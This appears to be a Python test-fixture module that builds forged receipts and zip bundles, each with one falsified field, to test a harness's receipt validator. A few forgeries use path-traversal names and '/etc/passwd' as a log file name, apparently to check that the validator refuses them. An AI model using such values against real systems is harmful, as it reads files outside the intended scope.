"""Forged receipts and bundles: each is an honest one of this repository with one lie in it.

A forger here is thorough: whatever a lie touches he makes fit, so the log's hash, the hashes in a bundle's manifest and
the lines of the log follow the lie, unless the lie is that they do not. Each forgery names the field that
gives it away.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import re
import tomllib
import zipfile
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from harness.core import files
from harness.pack import meaning
from harness.receipt import receipt as receipts

REPOSITORY = Path(__file__).resolve().parents[1]
PACKS = REPOSITORY / "packs"
LIGER = PACKS / "09_liger_flce_none"
OF_HEAD = PACKS.parent / "tests" / "resources" / "receipts" / "cpu.interpreted.json"
PATCHED_FILE = "liger_kernel.ops.fused_linear_cross_entropy"
OTHER_HASH = "0123456789abcdef" * 4

Document = dict[str, Any]


@dataclass
class Sent:
    """A receipt with its log, as somebody sends them: `document` is of schema 2 unless a forgery says otherwise."""

    document: Document
    log: str
    keep_hash: bool = False

    def lane(self, name: str = "patched") -> Document:
        """Return the record of a lane."""
        found: Document = self.document["lanes"][name]
        return found

    def line(self, what: str, name: str, lane: str = "patched") -> Document:
        """Return the record of one of a lane's checks, figures or outputs, or of an UPSTREAM module."""
        key = "module" if what == "upstream" else "name"
        found: Document = next(line for line in self.lane(lane)[what] if line[key] == name)
        return found

    def rewrite(self, lane: str, word: str, change: Callable[[Document], Document | None], name: str = "") -> None:
        """Change the log's lines of a lane with that word (and that name); None leaves the line out."""
        head, mark, text = self.log.partition(f"== {lane} lane ==\n")
        text, end, rest = text.partition("\n== ")
        lines: list[str] = []
        for line in text.split("\n"):
            found = json.loads(line.partition(" ")[2]) if line.startswith(f"{word} {{") else None
            if found is None or (name and name not in (found.get("name"), found.get("module"))):
                lines.append(line)
                continue
            changed = change(found)
            lines += [] if changed is None else [f"{word} {json.dumps(changed)}"]
        self.log = head + mark + "\n".join(lines) + end + rest

    def state(self, what: str, name: str, lane: str = "patched", /, **values: Any) -> None:  # noqa: ANN401 - any JSON value may be a lie
        """Change one line of a lane in the record and in the log alike."""
        word = {"checks": "CHECK", "figures": "FIGURE", "outputs": "OUTPUT", "upstream": "UPSTREAM"}[what]
        self.line(what, name, lane).update(values)
        self.rewrite(lane, word, lambda said: said | values, name)

    def end(self, lane: str, verdict: str, status: int) -> None:
        """Give a lane another verdict and status, in the record and in the log alike."""
        for word in ("BUG_REPRODUCED", "FIX_VALIDATED"):
            self.log = _in_lane(self.log, lane, f"\n{word} {{", f"\n{verdict} {{")
        self.lane(lane).update(verdict=verdict, exit_status=status)

    def write(self, folder: Path) -> Path:
        """Write the receipt and its log; return the receipt's path."""
        data = self.log.encode("utf-8", errors="surrogatepass")
        log = self.document.get("log")
        if not self.keep_hash and isinstance(log, dict):
            digest = hashlib.sha256(data).hexdigest()
            log.update(sha256=digest, file=f"{self.document['target']}.{self.document['evidence']}.{digest[:12]}.log")
            (folder / log["file"]).write_bytes(data)
        elif isinstance(log, dict) and re.fullmatch(r"[\w.]{1,100}", str(log.get("file"))):
            (folder / log["file"]).write_bytes(data)
        path = folder / f"{self.document['target']}.{self.document['evidence']}.json"
        path.write_text(json.dumps(self.document, indent=1), encoding="utf-8")
        return path


def _in_lane(log: str, lane: str, old: str, new: str) -> str:
    head, mark, text = log.partition(f"== {lane} lane ==\n")
    text, end, rest = text.partition("\n== ")
    return head + mark + text.replace(old, new) + end + rest


def honest(path: Path) -> Sent:
    """Return a committed receipt as one of schema 2, made with the probe and the patch that lie in its pack now."""
    found = receipts.load(path)
    log = (path.parent / found.log.file).read_text(encoding="utf-8")
    folder = PACKS / found.pack
    fix = found.fix and replace(found.fix, name=found.fix.name or "fix.patch")
    if fix:
        of = receipts.hashed(folder / fix.name)
        fix = replace(fix, sha256=of.sha256, meaning=of.meaning)
    target = tomllib.loads((folder / "pack.toml").read_text(encoding="utf-8"))["targets"][found.target]
    host = replace(found.host, gpus=found.host.gpus[:1] * target.get("gpus", 1))  # schema 1 named one of them
    found = replace(found, probe=receipts.hashed(folder / "reproduce.py"), fix=fix, host=host)
    return Sent(json.loads(json.dumps(receipts.document_of(found))), log)


def on_cpu() -> Sent:
    """Return the honest receipt of pack 09 under the interpreter."""
    return honest(LIGER / "receipts" / "cpu.interpreted.json")


def on_gpu() -> Sent:
    """Return the honest receipt of pack 09 on a GPU."""
    return honest(LIGER / "receipts" / "sm_90a.executed.json")


def of_head() -> Sent:
    """Return the honest receipt of pack 09 on upstream's default branch, where the bug is gone.

    It was the pack's until its probe changed: no whole copy of that commit is to be had.
    """
    return honest(OF_HEAD)


@dataclass(frozen=True)
class Forgery:
    """One lie: how it is told, from which honest receipt, and the words of the refusal that name it."""

    name: str
    gives_away: str
    tell: Callable[[Sent], None]
    base: Callable[[], Sent] = on_cpu


@dataclass(frozen=True)
class TextForgery:
    """A lie in a receipt's bytes."""

    name: str
    gives_away: str
    tell: Callable[[str], str | bytes]


@dataclass
class Bundle:
    """A bundle as somebody sends it: its members, which the manifest follows unless `manifest` is given."""

    members: dict[str, bytes]
    pack: str = LIGER.name
    runner: str = "0"
    manifest: bytes | None = None
    extra: list[tuple[zipfile.ZipInfo, bytes]] = field(default_factory=list)
    drop_manifest: bool = False

    def write(self, path: Path) -> Path:
        """Write the zip, with a manifest that fits the members."""
        hashes = {name: hashlib.sha256(data).hexdigest() for name, data in sorted(self.members.items())}
        stated = {"schema": 1, "pack": self.pack, "runner": self.runner, "files": hashes}
        manifest = self.manifest if self.manifest is not None else json.dumps(stated).encode()
        every = self.members if self.drop_manifest else {"MANIFEST.json": manifest, **self.members}
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
            for name, data in every.items():
                info = zipfile.ZipInfo(f"{self.pack}/{name}", (2026, 1, 1, 0, 0, 0))
                info.compress_type, info.external_attr = zipfile.ZIP_DEFLATED, 0o644 << 16
                made.writestr(info, data)
            for info, data in self.extra:
                made.writestr(info, data)
        path.write_bytes(stream.getvalue())
        return path

    def receipts(self) -> dict[str, Document]:
        """Map the member of each receipt to its document."""
        names = [name for name in self.members if name.startswith("receipts/") and name.endswith(".json")]
        return {name: json.loads(self.members[name]) for name in names}

    def put(self, name: str, document: Document) -> None:
        """Put a receipt into the bundle."""
        self.members[name] = json.dumps(document, indent=1).encode()

    def edit(self, name: str, old: str, new: str) -> None:
        """Change a text in a member; it has to be there."""
        text = self.members[name].decode()
        assert old in text, f"{name} holds no {old!r}"
        self.members[name] = text.replace(old, new, 1).encode()

    def foreign(self, name: str, data: bytes, mode: int = 0o100644) -> None:
        """Add a member by its whole name, outside the manifest."""
        info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
        info.external_attr = mode << 16
        self.extra.append((info, data))


@dataclass(frozen=True)
class BundleForgery:
    """One lie in a bundle."""

    name: str
    gives_away: str
    tell: Callable[[Bundle], None]


@dataclass(frozen=True)
class ZipForgery:
    """A lie in a bundle's bytes."""

    name: str
    gives_away: str
    tell: Callable[[bytes], bytes]


RECEIPTS: list[Forgery] = []
TEXTS: list[TextForgery] = []
BUNDLES: list[BundleForgery] = []
ZIPS: list[ZipForgery] = []

Tell = Callable[[Sent], None]


def receipt(gives_away: str, base: Callable[[], Sent] = on_cpu) -> Callable[[Tell], Tell]:
    """Register a forged receipt."""

    def register(tell: Tell) -> Tell:
        RECEIPTS.append(Forgery(tell.__name__, gives_away, tell, base))
        return tell

    return register


def text(gives_away: str) -> Callable[[Callable[[str], str | bytes]], Callable[[str], str | bytes]]:
    """Register a receipt whose bytes are forged."""

    def register(tell: Callable[[str], str | bytes]) -> Callable[[str], str | bytes]:
        TEXTS.append(TextForgery(tell.__name__, gives_away, tell))
        return tell

    return register


def bundle(gives_away: str) -> Callable[[Callable[[Bundle], None]], Callable[[Bundle], None]]:
    """Register a forged bundle."""

    def register(tell: Callable[[Bundle], None]) -> Callable[[Bundle], None]:
        BUNDLES.append(BundleForgery(tell.__name__, gives_away, tell))
        return tell

    return register


def zipped(gives_away: str) -> Callable[[Callable[[bytes], bytes]], Callable[[bytes], bytes]]:
    """Register a bundle whose bytes are forged."""

    def register(tell: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
        ZIPS.append(ZipForgery(tell.__name__, gives_away, tell))
        return tell

    return register


# --- the verdict against the lanes


@receipt("verdict")
def confirmed_where_the_patched_lane_still_has_the_bug(sent: Sent) -> None:
    sent.state("checks", "fp32.none_mask", ok=False)
    sent.end("patched", "BUG_REPRODUCED", 10)


@receipt("verdict")
def fix_ineffective_where_the_fix_worked(sent: Sent) -> None:
    sent.document.update(verdict="FIX_INEFFECTIVE", reason="fp32.none_mask")


@receipt("verdict")
def confirmed_with_two_lanes_that_are_right(sent: Sent) -> None:
    for line in sent.lane("pristine")["checks"]:
        if line["role"] == "defect":
            sent.state("checks", line["name"], "pristine", ok=True)
    sent.end("pristine", "FIX_VALIDATED", 0)


@receipt("verdict", of_head)
def confirmed_with_one_lane(sent: Sent) -> None:
    sent.document.update(verdict="CONFIRMED", reason="")


@receipt("verdict", of_head)
def reproduced_where_the_only_lane_is_right(sent: Sent) -> None:
    sent.document["verdict"] = "REPRODUCED"


@receipt("verdict")
def an_unknown_verdict(sent: Sent) -> None:
    sent.document["verdict"] = "PROVED"


@receipt("verdict")
def reproduced_by_a_patched_lane_alone(sent: Sent) -> None:
    del sent.document["lanes"]["pristine"]
    sent.document.update(verdict="REPRODUCED", claims=[])
    sent.log = "== patched lane ==\n" + sent.log.partition("== patched lane ==\n")[2]


@receipt("reason")
def a_stale_patch_without_a_reason(sent: Sent) -> None:
    del sent.document["lanes"]["patched"]
    sent.document.update(verdict="PATCH_STALE", fix=None, claims=[])
    sent.log = sent.log.partition("\n== patched lane ==\n")[0]


@receipt("verdict")
def unavailable_with_two_lanes(sent: Sent) -> None:
    sent.document.update(verdict="UNAVAILABLE", reason="no network")


@receipt("reason")
def confirmed_with_a_reason(sent: Sent) -> None:
    sent.document["reason"] = "seen by three reviewers"


@receipt("lanes")
def no_lanes(sent: Sent) -> None:
    sent.document["lanes"] = {}


@receipt("lanes")
def a_third_lane(sent: Sent) -> None:
    sent.document["lanes"]["reviewed"] = deepcopy(sent.lane())


@receipt("lanes")
def the_lanes_swapped(sent: Sent) -> None:
    lanes = sent.document["lanes"]
    lanes["pristine"], lanes["patched"] = lanes["patched"], lanes["pristine"]


# --- checks against status


@receipt("lanes.patched.verdict")
def a_defect_wrong_in_the_patched_lane(sent: Sent) -> None:
    sent.state("checks", "fp32.none_mask", ok=False)


@receipt("lanes.patched.verdict")
def a_control_wrong_in_the_patched_lane(sent: Sent) -> None:
    sent.state("checks", "fp32.mean", ok=False)


@receipt("lanes.pristine.verdict")
def every_defect_right_in_the_pristine_lane(sent: Sent) -> None:
    for line in sent.lane("pristine")["checks"]:
        sent.state("checks", line["name"], "pristine", ok=True)


@receipt("lanes.patched.exit_status")
def a_status_that_its_verdict_line_does_not_have(sent: Sent) -> None:
    sent.lane()["exit_status"] = 10


@receipt("lanes.patched.exit_status")
def a_killed_lane_that_validated(sent: Sent) -> None:
    sent.lane()["exit_status"] = -9


@receipt("lanes.patched.verdict")
def a_lane_verdict_that_no_probe_knows(sent: Sent) -> None:
    sent.lane()["verdict"] = "PERFECT"


@receipt("lanes.patched.checks")
def no_checks_at_all(sent: Sent) -> None:
    sent.lane()["checks"] = []
    sent.rewrite("patched", "CHECK", lambda _: None)


@receipt("lanes.patched.checks")
def one_check_named_twice(sent: Sent) -> None:
    line = deepcopy(sent.line("checks", "fp32.none_mask"))
    sent.lane()["checks"].append(line)
    sent.log = _in_lane(sent.log, "patched", "FIX_VALIDATED {", f"CHECK {json.dumps(line)}\nFIX_VALIDATED {{")


@receipt("lanes.patched.figures")
def one_figure_named_twice(sent: Sent) -> None:
    line = deepcopy(sent.lane()["figures"][0]) | {"value": 0.0}
    sent.lane()["figures"].append(line)
    sent.log = _in_lane(sent.log, "patched", "FIX_VALIDATED {", f"FIGURE {json.dumps(line)}\nFIX_VALIDATED {{")


@receipt("lanes.patched.outputs")
def one_output_named_twice(sent: Sent) -> None:
    line = deepcopy(sent.lane()["outputs"][0])
    sent.lane()["outputs"].insert(0, line)
    sent.log = _in_lane(sent.log, "patched", "\nOUTPUT {", f"\nOUTPUT {json.dumps(line)}\nOUTPUT {{")


@receipt("lanes.patched.checks")
def an_unjudged_check_without_a_reason(sent: Sent) -> None:
    sent.state("checks", "fp32.none_ones", ok=None, reason="")


# --- the lanes' checks against each other


@receipt("fp32.none_mask")
def a_defect_not_judged_in_the_patched_lane(sent: Sent) -> None:
    sent.state("checks", "fp32.none_mask", ok=None, reason="not here")


@receipt("fp32.none_mask")
def a_defect_absent_from_the_patched_lane(sent: Sent) -> None:
    sent.lane()["checks"].remove(sent.line("checks", "fp32.none_mask"))
    sent.rewrite("patched", "CHECK", lambda _: None, "fp32.none_mask")


@receipt("fp32.none_mask")
def a_defect_renamed_in_the_patched_lane(sent: Sent) -> None:
    sent.state("checks", "fp32.none_mask", name="fp32.none_masked")


@receipt("fp32.none_mask")
def a_defect_that_became_a_control(sent: Sent) -> None:
    sent.state("checks", "fp32.none_mask", role="control")


@receipt("fp32.mean")
def a_control_that_became_a_defect(sent: Sent) -> None:
    sent.state("checks", "fp32.mean", role="defect")


@receipt("fp32.mean")
def a_control_absent_from_the_patched_lane(sent: Sent) -> None:
    sent.lane()["checks"].remove(sent.line("checks", "fp32.mean"))
    sent.rewrite("patched", "CHECK", lambda _: None, "fp32.mean")


@receipt("fp32.mean")
def a_control_not_judged_in_the_patched_lane(sent: Sent) -> None:
    sent.state("checks", "fp32.mean", ok=None, reason="too slow")


# --- the pack


@receipt("pack")
def a_pack_that_is_not_here(sent: Sent) -> None:
    sent.document["pack"] = "99_perpetual_motion"


@receipt("pack")
def a_pack_name_that_climbs(sent: Sent) -> None:
    sent.document["pack"] = "../packs/09_liger_flce_none"


@receipt("pack")
def a_pack_name_that_is_absolute(sent: Sent) -> None:
    sent.document["pack"] = str(LIGER)


@receipt("upstream.package")
def another_packs_name(sent: Sent) -> None:
    sent.document["pack"] = "14_sparse_mla_precision"


@receipt("kind")
def another_kind(sent: Sent) -> None:
    sent.document["kind"] = "crash"


@receipt("kind")
def an_unknown_kind(sent: Sent) -> None:
    sent.document["kind"] = "catastrophe"


@receipt("title")
def another_title(sent: Sent) -> None:
    sent.document["title"] = "Every gradient of every loss is wrong"


@receipt("upstream.package")
def another_package(sent: Sent) -> None:
    sent.document["upstream"]["package"] = "torch"


@receipt("upstream.version")
def another_release_called_the_pinned_one(sent: Sent) -> None:
    sent.document["upstream"]["version"] = "0.8.2"


@receipt("upstream.sha256")
def another_archive(sent: Sent) -> None:
    sent.document["upstream"]["sha256"] = OTHER_HASH
    sent.lane("pristine")["tree"] = OTHER_HASH


@receipt("upstream.commit")
def a_release_with_a_commit(sent: Sent) -> None:
    sent.document["upstream"]["commit"] = "a" * 40


@receipt("upstream.version")
def the_pinned_release_said_to_come_from_git(sent: Sent) -> None:
    sent.document["upstream"]["origin"] = "git"


@receipt("upstream.origin")
def the_pinned_release_said_to_be_another(sent: Sent) -> None:
    sent.document["upstream"]["origin"] = "release"


@receipt("upstream.origin")
def an_origin_that_does_not_exist(sent: Sent) -> None:
    sent.document["upstream"]["origin"] = "official"


@receipt("command")
def a_pinned_release_that_another_upstream_was_asked_for(sent: Sent) -> None:
    sent.document["command"] = "runner.py run 9 --target cpu --upstream head"


@receipt("command")
def a_command_for_another_pack(sent: Sent) -> None:
    sent.document["command"] = "runner.py run 14 --target cpu"


@receipt("command")
def a_command_for_another_target(sent: Sent) -> None:
    sent.document["command"] = "runner.py run 9 --target sm_90a"


# --- upstream's default branch


@receipt("upstream.commit", of_head)
def a_head_commit_that_is_not_its_versions(sent: Sent) -> None:
    sent.document["upstream"]["commit"] = "b" * 40


@receipt("command", of_head)
def another_commit_said_to_be_the_head(sent: Sent) -> None:
    sent.document["upstream"].update(version="commit " + "b" * 40, commit="b" * 40)


@receipt("started", of_head)
def a_head_judged_before_its_commit_was_made(sent: Sent) -> None:
    sent.document["started"] = "2026-08-01T00:00:00+00:00"


@receipt("upstream.origin", of_head)
def a_head_said_to_be_the_pinned_release(sent: Sent) -> None:
    sent.document["upstream"]["origin"] = "pinned"


@receipt("verdict", of_head)
def a_fixed_head_with_the_bug_in_its_log(sent: Sent) -> None:
    sent.state("checks", "fp32.none_mask", "pristine", ok=False)


# --- target, evidence, claims, GPUs


@receipt("target")
def a_target_that_the_pack_does_not_list(sent: Sent) -> None:
    sent.document["target"] = "sm_100a"
    for lane in ("pristine", "patched"):
        sent.rewrite(lane, "TARGET", lambda said: said | {"target": "sm_100a"})


@receipt("target")
def an_architecture_that_does_not_exist(sent: Sent) -> None:
    sent.document["target"] = "sm_90"


@receipt("evidence")
def evidence_that_the_target_does_not_admit(sent: Sent) -> None:
    sent.document["evidence"] = "traced"
    for lane in ("pristine", "patched"):
        sent.rewrite(lane, "TARGET", lambda said: said | {"evidence": "traced"})


@receipt("TARGET")
def interpreted_said_to_be_executed(sent: Sent) -> None:
    sent.document.update(target="sm_90a", evidence="executed")
    sent.document["host"].update(
        gpus=[{"name": "NVIDIA H200", "compute_capability": "9.0"}], torch="2.11.0", driver="1"
    )


@receipt("host.gpus")
def executed_without_a_gpu(sent: Sent) -> None:
    sent.document.update(target="sm_90a", evidence="executed")
    for lane in ("pristine", "patched"):
        sent.rewrite(lane, "TARGET", lambda said: said | {"target": "sm_90a", "evidence": "executed"})


@receipt("host.gpus", on_gpu)
def more_gpus_than_the_target_takes(sent: Sent) -> None:
    sent.document["host"]["gpus"] *= 8


@receipt("host.gpus", on_gpu)
def a_gpu_of_another_architecture(sent: Sent) -> None:
    sent.document["host"]["gpus"][0]["compute_capability"] = "10.0"


@receipt("host.gpus", on_gpu)
def a_gpu_name_that_does_not_fit_its_compute_capability(sent: Sent) -> None:
    sent.document["host"]["gpus"][0]["name"] = "NVIDIA B200"
    for lane in ("pristine", "patched"):
        sent.lane(lane)["device"] = "NVIDIA B200"
        sent.rewrite(lane, "TARGET", lambda said: said | {"device": "NVIDIA B200"})


@receipt("device", on_gpu)
def a_lane_on_another_gpu_than_the_hosts(sent: Sent) -> None:
    sent.lane()["device"] = "NVIDIA H100 80GB HBM3"
    sent.rewrite("patched", "TARGET", lambda said: said | {"device": "NVIDIA H100 80GB HBM3"})


@receipt("host.torch", on_gpu)
def a_gpu_used_by_a_torch_for_cpus(sent: Sent) -> None:
    sent.document["host"]["torch"] = "2.11.0+cpu"


@receipt("host.driver", on_gpu)
def a_gpu_without_a_driver(sent: Sent) -> None:
    sent.document["host"]["driver"] = ""


@receipt("host.gpus")
def a_gpu_on_the_cpu(sent: Sent) -> None:
    sent.document["host"]["gpus"] = [{"name": "NVIDIA H200", "compute_capability": "9.0"}]


@receipt("host.torch")
def a_torch_outside_the_packs_range(sent: Sent) -> None:
    sent.document["host"]["torch"] = "1.13.1"


@receipt("host.triton")
def a_triton_outside_the_packs_range(sent: Sent) -> None:
    sent.document["host"]["triton"] = "2.1.0"


@receipt("host.python")
def a_python_outside_the_packs_range(sent: Sent) -> None:
    sent.document["host"]["python"] = "3.8.1"


@receipt("host.python")
def no_python(sent: Sent) -> None:
    sent.document["host"]["python"] = ""


@receipt("host.gpus", on_gpu)
def a_compute_capability_of_5000_digits(sent: Sent) -> None:
    sent.document["host"]["gpus"][0]["compute_capability"] = "9" * 5000 + ".0"


@receipt("claims")
def a_claim_that_no_lane_printed(sent: Sent) -> None:
    sent.document["claims"].append("MEMORY_SAVE_VERIFIED")


@receipt("claims")
def a_claim_that_the_pack_does_not_know(sent: Sent) -> None:
    for lane in ("pristine", "patched"):
        sent.lane(lane)["claims"] = ["TEN_TIMES_FASTER"]
        sent.log = _in_lane(sent.log, lane, "\nTARGET {", "\nTEN_TIMES_FASTER {}\nTARGET {")
    sent.document["claims"].append("TEN_TIMES_FASTER")


@receipt("claims")
def identical_bits_without_an_output_that_must_match(sent: Sent) -> None:
    for lane in ("pristine", "patched"):
        for line in sent.lane(lane)["outputs"]:
            line["must_match"] = False
        sent.rewrite(lane, "OUTPUT", lambda said: said | {"must_match": False})


@receipt("claims")
def a_claim_left_out(sent: Sent) -> None:
    sent.document["claims"] = []


# --- repeats, dependencies, trees, hashes


@receipt("repeats")
def more_runs_agreed_than_there_were(sent: Sent) -> None:
    sent.document["repeats"] = {"agreeing": 5, "of": 3}


@receipt("repeats")
def no_runs_at_all(sent: Sent) -> None:
    sent.document["repeats"] = {"agreeing": 0, "of": 0}


@receipt("repeats")
def confirmed_though_the_runs_differ(sent: Sent) -> None:
    sent.document["repeats"] = {"agreeing": 2, "of": 3}


@receipt("repeats")
def repeats_that_are_booleans(sent: Sent) -> None:
    sent.document["repeats"] = {"agreeing": True, "of": True}


@receipt("dependencies.packages")
def another_version_of_a_dependency(sent: Sent) -> None:
    sent.document["dependencies"]["packages"]["numpy"] = "1.26.4"


@receipt("dependencies.sha256")
def another_hash_of_the_dependencies(sent: Sent) -> None:
    sent.document["dependencies"]["sha256"] = OTHER_HASH


@receipt("dependencies.name")
def a_dependency_set_that_the_pack_does_not_have(sent: Sent) -> None:
    sent.document["dependencies"]["name"] = "blessed"


@receipt("lanes.patched.tree")
def one_tree_in_both_lanes(sent: Sent) -> None:
    sent.lane()["tree"] = sent.lane("pristine")["tree"]


@receipt("lanes.pristine.tree")
def a_pristine_lane_on_another_tree_than_the_release(sent: Sent) -> None:
    sent.lane("pristine")["tree"] = OTHER_HASH


@receipt("lanes.patched.tree")
def a_tree_that_is_no_hash(sent: Sent) -> None:
    sent.lane()["tree"] = "patched"


@receipt("probe")
def the_probe_of_another_pack(sent: Sent) -> None:
    other = PACKS / "14_sparse_mla_precision" / "reproduce.py"
    sent.document["probe"] = {"sha256": files.sha256_file(other), "meaning": meaning.meaning(other)}


@receipt("probe")
def this_probes_bytes_with_another_meaning(sent: Sent) -> None:
    sent.document["probe"]["meaning"] = OTHER_HASH


@receipt("fix")
def the_patch_of_another_pack(sent: Sent) -> None:
    other = PACKS / "14_sparse_mla_precision" / "fix.patch"
    sent.document["fix"] |= {"sha256": files.sha256_file(other), "meaning": meaning.meaning(other)}


@receipt("fix.name")
def a_patch_by_a_climbing_name(sent: Sent) -> None:
    sent.document["fix"]["name"] = "../14_sparse_mla_precision/fix.patch"


@receipt("fix")
def a_patched_lane_without_a_patch(sent: Sent) -> None:
    sent.document["fix"] = None


@receipt("fix", of_head)
def a_patch_without_a_patched_lane(sent: Sent) -> None:
    sent.document["fix"] = on_cpu().document["fix"]


@receipt("fix.kind")
def a_release_in_the_patchs_place(sent: Sent) -> None:
    sent.document["fix"] |= {"kind": "release", "name": "0.8.2", "sha256": OTHER_HASH, "meaning": ""}


# --- the modules under test


@receipt("lanes.patched.upstream")
def no_module_under_test(sent: Sent) -> None:
    sent.lane()["upstream"] = []
    sent.rewrite("patched", "UPSTREAM", lambda _: None)


@receipt("lanes.patched.upstream")
def a_module_from_outside_the_tree(sent: Sent) -> None:
    file = "$CACHE/site/liger_kernel/ops/fused_linear_cross_entropy.py"
    sent.state("upstream", PATCHED_FILE, file=file)


@receipt("lanes.patched.upstream")
def a_module_that_climbs_out_of_the_tree(sent: Sent) -> None:
    file = "$TREE/../other/src/liger_kernel/ops/fused_linear_cross_entropy.py"
    sent.state("upstream", PATCHED_FILE, file=file)


@receipt("lanes.patched.upstream")
def a_module_of_another_package(sent: Sent) -> None:
    sent.state("upstream", "liger_kernel.ops.utils", module="torch.utils", file="$TREE/src/torch/utils.py")


@receipt("lanes.patched.upstream")
def a_module_in_another_modules_file(sent: Sent) -> None:
    sent.state("upstream", "liger_kernel.ops.utils", file="$TREE/src/liger_kernel/ops/rope.py")


@receipt("never loaded")
def the_patched_file_never_loaded(sent: Sent) -> None:
    sent.lane()["upstream"].remove(sent.line("upstream", PATCHED_FILE))
    sent.rewrite("patched", "UPSTREAM", lambda _: None, PATCHED_FILE)


@receipt("fused_linear_cross_entropy")
def the_patched_file_without_the_patch(sent: Sent) -> None:
    sent.state("upstream", PATCHED_FILE, sha256=sent.line("upstream", PATCHED_FILE, "pristine")["sha256"])


@receipt("liger_kernel.ops.utils")
def a_file_changed_that_the_patch_leaves_alone(sent: Sent) -> None:
    sent.state("upstream", "liger_kernel.ops.utils", sha256=OTHER_HASH)


@receipt("liger_kernel.ops.utils")
def another_file_than_committed_receipts_saw_in_that_release(sent: Sent) -> None:
    for lane in ("pristine", "patched"):
        sent.state("upstream", "liger_kernel.ops.utils", lane, sha256=OTHER_HASH)


@receipt("lanes.patched.upstream")
def one_module_loaded_twice_with_two_hashes(sent: Sent) -> None:
    line = deepcopy(sent.line("upstream", PATCHED_FILE)) | {"sha256": OTHER_HASH}
    sent.lane()["upstream"].append(line)
    sent.log = _in_lane(sent.log, "patched", "\nCHECK {", f"\nUPSTREAM {json.dumps(line)}\nCHECK {{")


# --- the receipt against its log


@receipt("loss_noise")
def a_figure_that_the_log_does_not_say(sent: Sent) -> None:
    sent.line("figures", "loss_noise")["value"] = 0.0


@receipt("loss_noise")
def a_figures_unit_that_the_log_does_not_say(sent: Sent) -> None:
    sent.line("figures", "loss_noise")["unit"] = "ms"


@receipt("loss_noise")
def a_figure_left_out_of_the_receipt(sent: Sent) -> None:
    sent.lane()["figures"].remove(sent.line("figures", "loss_noise"))


@receipt("loss_noise")
def a_figure_that_only_the_receipt_has(sent: Sent) -> None:
    sent.rewrite("patched", "FIGURE", lambda _: None, "loss_noise")


@receipt("fp32.mean")
def a_checks_measured_value_that_the_log_does_not_say(sent: Sent) -> None:
    sent.line("checks", "fp32.mean")["measured"]["loss"] = 0.0


@receipt("fp32.mean")
def a_tolerance_that_the_log_does_not_say(sent: Sent) -> None:
    sent.line("checks", "fp32.mean")["tolerance"]["loss"] = 1.0


@receipt("fp32.none_mask")
def a_check_right_in_the_receipt_and_wrong_in_the_log(sent: Sent) -> None:
    sent.rewrite("patched", "CHECK", lambda said: said | {"ok": False}, "fp32.none_mask")


@receipt("fp32.mean.loss")
def an_output_that_the_log_does_not_say(sent: Sent) -> None:
    for lane in ("pristine", "patched"):
        sent.line("outputs", "fp32.mean.loss", lane)["sha256"] = OTHER_HASH


@receipt("fp32.mean.loss")
def an_output_that_must_match_and_differs(sent: Sent) -> None:
    sent.state("outputs", "fp32.mean.loss", sha256=OTHER_HASH)


@receipt("fp32.mean.loss")
def an_output_that_must_match_in_one_lane_alone(sent: Sent) -> None:
    sent.state("outputs", "fp32.mean.loss", must_match=False)


@receipt("lanes.patched.verdict")
def a_verdict_line_that_the_log_does_not_have(sent: Sent) -> None:
    sent.log = _in_lane(sent.log, "patched", "\nFIX_VALIDATED {", "\nCONTROL_FAILED {")


@receipt("lanes.patched.verdict")
def two_verdict_lines_in_the_log(sent: Sent) -> None:
    sent.log = _in_lane(sent.log, "patched", "\nFIX_VALIDATED {", '\nBUG_REPRODUCED {"reason": "x"}\nFIX_VALIDATED {')


@receipt("lanes.patched.reason")
def a_reason_that_the_log_does_not_say(sent: Sent) -> None:
    sent.lane()["reason"] = "all is well"


@receipt("TARGET")
def a_log_of_another_target(sent: Sent) -> None:
    sent.rewrite("patched", "TARGET", lambda said: said | {"target": "sm_90a"})


@receipt("device")
def a_device_that_the_log_does_not_say(sent: Sent) -> None:
    sent.lane()["device"] = "Cray-1"


@receipt("lane")
def a_log_without_its_patched_lane(sent: Sent) -> None:
    sent.log = sent.log.partition("== patched lane ==")[0]


@receipt("lanes.patched")
def a_log_whose_lane_comes_twice(sent: Sent) -> None:
    sent.log += "\n== patched lane ==\n" + sent.log.partition("== patched lane ==\n")[2]


@receipt("log")
def a_log_with_something_before_its_lanes(sent: Sent) -> None:
    sent.log = "reviewed by upstream\n" + sent.log


@receipt("lanes.patched.claims")
def a_claim_that_only_the_log_has(sent: Sent) -> None:
    sent.log = _in_lane(sent.log, "patched", "\nCHECK {", "\nBITWISE_IDENTICAL {}\nCHECK {")


@receipt("log.file")
def a_log_with_a_name_of_300_characters(sent: Sent) -> None:
    sent.document["log"]["file"] = "x" * 300 + ".log"
    sent.keep_hash = True


@receipt("log")
def an_empty_log(sent: Sent) -> None:
    sent.log = ""


@receipt("log.sha256")
def a_log_edited_afterwards(sent: Sent) -> None:
    sent.document["log"]["file"] = "cpu.interpreted.log"
    sent.keep_hash = True
    sent.log += "\n"


@receipt("log.sha256")
def the_log_of_another_receipt(sent: Sent) -> None:
    sent.document["log"]["file"] = "cpu.interpreted.log"
    sent.keep_hash = True
    sent.log = on_gpu().log


@receipt("log.file")
def a_log_by_a_climbing_name(sent: Sent) -> None:
    sent.document["log"]["file"] = "../receipts/cpu.interpreted.log"
    sent.keep_hash = True


@receipt("log.file")
def a_log_by_an_absolute_name(sent: Sent) -> None:
    sent.document["log"]["file"] = "/etc/passwd"
    sent.keep_hash = True


@receipt("log.file")
def a_log_named_for_another_target(sent: Sent) -> None:
    sent.document["log"].update(file="sm_90a.executed.log", sha256=hashlib.sha256(sent.log.encode()).hexdigest())
    sent.keep_hash = True


@receipt("log.file")
def a_log_whose_name_holds_another_hash(sent: Sent) -> None:
    digest = hashlib.sha256(sent.log.encode()).hexdigest()
    sent.document["log"].update(file="cpu.interpreted.0123456789ab.log", sha256=digest)
    sent.keep_hash = True


# --- figures, times and types that cannot be


@receipt("seconds")
def a_negative_duration(sent: Sent) -> None:
    sent.document["seconds"] = -1.0


@receipt("seconds")
def a_run_shorter_than_its_lanes(sent: Sent) -> None:
    sent.document["seconds"] = 0.001


@receipt("lanes.patched.seconds")
def a_lane_of_negative_duration(sent: Sent) -> None:
    sent.lane()["seconds"] = -0.5


